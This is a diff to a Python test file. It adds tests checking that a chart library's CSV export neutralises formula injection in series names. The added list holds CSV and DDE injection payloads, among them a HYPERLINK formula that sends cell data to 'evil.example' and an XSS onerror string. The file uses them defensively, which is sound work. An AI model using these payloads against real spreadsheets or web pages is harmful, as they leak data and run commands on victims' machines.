@@ -55,3 +55,31 @@ def test_the_csv_is_every_drawn_point_exactly():
 @pytest.mark.parametrize(("x", "text"), [(1.0, "1"), (0.1, "0.1"), (-0.99, "-0.99"), (60610.0, "60,610"), (2.5e-7, "2.500e-07"), (0.0, "0")])
 def test_numbers_in_a_sentence_have_no_padding(x, text):
     assert describe.number(x) == text
+
+
+HOSTILE = ['=HYPERLINK("http://evil.example/?q="&A1,"Click")', "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0",
+           "\t=1+1", "\r=1+1", "<img src=x onerror=alert(1)> & $x$"]  # fmt: skip
+
+
+def test_a_hostile_series_name_is_written_as_text_never_as_a_formula():
+    x = np.arange(3.0)
+    series = [(charts.literal(name), x, np.array([-0.5, 0.0, 2.5])) for name in HOSTILE]  # as the model page names an upload's tensor
+    text = describe.figure_csv(charts.lines(series, title="Hostile", x_title="=x", y_title="-y"))
+    rows = list(csv.reader(io.StringIO(text)))
+    assert rows[0] == ["series", "'=x", "'-y"]
+    words = [" ".join(name.split()) for name in HOSTILE]  # the name as written (its spaces as one, as in a title), made inert
+    assert [r[0] for r in rows[1::3]] == ["'" + w for w in words[:-1]] + [words[-1]]
+    assert all(float(r[2]) == v for r, v in zip(rows[1:], [-0.5, 0.0, 2.5] * len(HOSTILE)))
+    assert "\n-0.5" not in text and ",-0.5\n" in text and ",'-0.5" not in text  # a negative number stays a bare number
+    assert '"\'=HYPERLINK(""http://evil.example/?q=""&A1,""Click"")"' in text  # quoted, its quotes doubled
+    assert "&amp;" not in text and "&lt;" not in text and "&#36;" not in text
+
+
+@pytest.mark.parametrize("cell", [-0.5, "-0.5", "+1e-3", "-inf", 3, "position", "", "a=b"])
+def test_numbers_and_plain_text_are_cells_as_they_are(cell):
+    assert describe.csv_cell(cell) == cell
+
+
+def test_a_name_made_literal_for_plotly_reads_as_written_in_words():
+    fig = charts.lines([(charts.literal(HOSTILE[-1]), np.arange(3.0), np.arange(3.0))], title="T", x_title="x", y_title="y")
+    assert describe.figure_text(fig) == f"T. A line chart of 3 points ({HOSTILE[-1]}): x 0 to 2, y 0 to 2; highest: 2 at x 2; lowest: 0 at x 0."
